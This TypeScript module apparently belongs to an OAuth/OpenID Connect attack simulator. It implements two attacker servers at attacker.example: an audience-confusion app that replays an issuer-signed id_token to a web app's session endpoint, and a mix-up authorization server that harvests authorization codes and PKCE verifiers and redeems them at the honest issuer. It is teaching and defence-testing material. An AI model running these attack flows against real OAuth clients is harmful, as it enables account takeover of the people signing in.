/**
 * The attacker's own servers, for the scenarios where the attacker runs a site of its own rather
 * than changing messages in transit: an ordinary app registered at the issuer (audience
 * confusion) and an authorization server the client also works with (mix-up). They make real
 * requests to the real issuer and the real client, so the defences that stop them are the real ones.
 */
import { exportJWK, generateKeyPair, type JSONWebKeySet } from 'jose';
import {
	ATTACKER_CLIENT,
	codeRedemptionRequest,
	createAuthorizationRequest,
	formBody,
	html,
	json,
	readCallback,
	readJson,
	redirect,
	requestParams,
	SPA_CLIENT,
	WEBAPP_CLIENT,
	type HttpRequest,
	type HttpResponse,
	type PendingAuthorization,
	type ProviderMetadata
} from '../../core/index';
import { ID_TOKEN_SESSION_PATH } from '../machines/clientSession';
import type { Transport } from '../types';

/** What an attacker's server is started with: the network to send on, the honest issuer. */
export interface AttackerSiteEnv {
	network: Transport;
	issuer: string;
	/** The scope the person set, which the attacker's app asks for as its own. */
	scope: string;
}

/** Answers a request to the attacker's origin. */
export type SiteHandler = (request: HttpRequest) => Promise<{ response: HttpResponse }>;

/** A server the attacker runs at its own origin, drawn as the attacker's lane. */
export interface AttackerSite {
	origin: string;
	serve(env: AttackerSiteEnv): SiteHandler;
}

const ORIGIN = 'https://attacker.example';

/** The issuer's endpoints as a statically configured relying party knows them. */
function endpointsOf(issuer: string): ProviderMetadata {
	const at = (path: string) => new URL(path, issuer).href;
	return {
		issuer,
		authorization_endpoint: at('authorize'),
		token_endpoint: at('oauth/token'),
		userinfo_endpoint: at('userinfo'),
		jwks_uri: at('.well-known/jwks.json')
	};
}

const notFound = (): { response: HttpResponse } => ({
	response: {
		status: 404,
		headers: [['Content-Type', 'text/plain; charset=utf-8']],
		body: 'Not found'
	}
});

/**
 * Audience confusion (RFC 8725 §2.7, §3.9): "Quiz of the Day", the attacker's app, registered at
 * the same issuer as the web app. The person signs in to the quiz as to any app; the quiz's
 * server redeems the code like any client and gets a genuine id_token about the person, signed
 * by the issuer, with the quiz's client_id as its audience. It then posts that token to the web
 * app's POST /session, hoping to be signed in there as the person.
 */
export const QUIZ_APP: AttackerSite = {
	origin: ORIGIN,
	serve({ network, issuer, scope }) {
		const metadata = endpointsOf(issuer);
		const redirectUri = ATTACKER_CLIENT.redirect_uris[0]!;
		let pending: PendingAuthorization | undefined;
		return async (request) => {
			const url = new URL(request.url);
			if (url.pathname === new URL(redirectUri).pathname) {
				if (!pending) return notFound();
				return { response: await signedInAtQuiz(request.url, pending) };
			}
			if (url.pathname !== '/') return notFound();
			// An ordinary sign-in, as any app makes one: state, nonce and PKCE of its own.
			pending = await createAuthorizationRequest(metadata, {
				clientId: ATTACKER_CLIENT.client_id,
				redirectUri,
				scope
			});
			return { response: redirect(pending.url) };
		};

		async function signedInAtQuiz(
			callback: string,
			sent: PendingAuthorization
		): Promise<HttpResponse> {
			const read = readCallback({ url: callback }, sent, issuer);
			if (!read.ok || !read.params.code) return html(400, '<h1>Sign-in failed</h1>');
			const tokens = readJson(
				await network.send(
					'attacker',
					codeRedemptionRequest(
						metadata,
						{
							clientId: ATTACKER_CLIENT.client_id,
							clientSecret: ATTACKER_CLIENT.client_secret,
							authMethod: 'client_secret_basic'
						},
						read.params.code,
						sent
					),
					{
						note: 'The quiz’s server redeems the code as any client does, with its own client credentials. The issuer answers with a genuine id_token about the person, signed with its key, whose aud is the quiz’s client_id.'
					}
				)
			);
			const idToken = tokens.id_token;
			if (typeof idToken === 'string') {
				await network.send(
					'attacker',
					{
						method: 'POST',
						url: new URL(ID_TOKEN_SESSION_PATH, WEBAPP_CLIENT.redirect_uris[0]).href,
						headers: [['Content-Type', 'application/x-www-form-urlencoded']],
						body: formBody({ id_token: idToken })
					},
					{
						note: 'The attacker posts the person’s id_token, the one the issuer minted for the quiz, to the web app’s POST /session, where the web app’s own front end signs people in with an id_token. The signature is the issuer’s and the token is about the person: the attacker hopes to be signed in to the web app as them.'
					}
				);
			}
			return html(200, '<!doctype html><title>Quiz of the Day</title><h1>Welcome to the quiz</h1>');
		}
	}
};

/** The attacker's authorization server, as the client knows it from its own registration there. */
export const ATTACKER_AS = {
	issuer: `${ORIGIN}/`,
	/** The client's client_id at the attacker's AS (it registered there, perhaps dynamically). */
	clientId: 'tokenstep-spa-at-attacker'
} as const;

/** The attacker's own signing keys, published at its jwks_uri like any issuer's. */
let attackerKeys: Promise<JSONWebKeySet> | undefined;
function ownKeys(): Promise<JSONWebKeySet> {
	attackerKeys ??= generateKeyPair('ES256').then(async ({ publicKey }) => ({
		keys: [{ ...(await exportJWK(publicKey)), kid: 'attacker-as-1', alg: 'ES256', use: 'sig' }]
	}));
	return attackerKeys;
}

/**
 * Mix-up (RFC 9700 §4.4.1): an authorization server the client also works with, run by the
 * attacker. It publishes ordinary metadata (without RFC 9207's
 * authorization_response_iss_parameter_supported); its authorization endpoint sends the browser
 * straight on to the honest issuer's with the client's own parameters, the client_id swapped for
 * the client's client_id there (public: anyone can start a sign-in at the client and read it). Its
 * token endpoint is where a client that did not notice would send the honest issuer's code and
 * its PKCE code_verifier: the attacker redeems them at the honest issuer as the public client.
 */
export const MIX_UP_AS: AttackerSite = {
	origin: ORIGIN,
	serve({ network, issuer }) {
		const own = endpointsOf(ATTACKER_AS.issuer);
		const honest = endpointsOf(issuer);
		return async (request) => {
			switch (new URL(request.url).pathname) {
				case '/.well-known/openid-configuration':
					return {
						response: json(200, {
							...own,
							response_types_supported: ['code'],
							subject_types_supported: ['public'],
							id_token_signing_alg_values_supported: ['ES256'],
							code_challenge_methods_supported: ['S256']
						})
					};
				case '/.well-known/jwks.json':
					return { response: json(200, await ownKeys()) };
				case '/authorize': {
					const onward = new URL(honest.authorization_endpoint);
					for (const [name, value] of new URL(request.url).searchParams)
						onward.searchParams.set(name, name === 'client_id' ? SPA_CLIENT.client_id : value);
					// RFC 9700 §4.4.1 step 3: a 303 to the honest issuer, the client_id replaced.
					return { response: { status: 303, headers: [['Location', onward.href]], body: '' } };
				}
				case '/oauth/token': {
					const sent = requestParams(request);
					await network.send(
						'attacker',
						{
							method: 'POST',
							url: honest.token_endpoint,
							headers: [['Content-Type', 'application/x-www-form-urlencoded']],
							body: formBody({
								grant_type: 'authorization_code',
								code: sent.get('code') ?? '',
								redirect_uri: sent.get('redirect_uri') ?? '',
								code_verifier: sent.get('code_verifier') ?? undefined,
								client_id: SPA_CLIENT.client_id
							})
						},
						{
							note: 'RFC 9700 §4.4.1 step 6: the attacker redeems the honest issuer’s code, with the code_verifier the client just gave it, at the honest issuer, as the public client: the tokens are for the person’s account there.'
						}
					);
					return {
						response: json(400, {
							error: 'invalid_grant',
							error_description: 'the code is expired'
						})
					};
				}
				default:
					return notFound();
			}
		};
	}
};
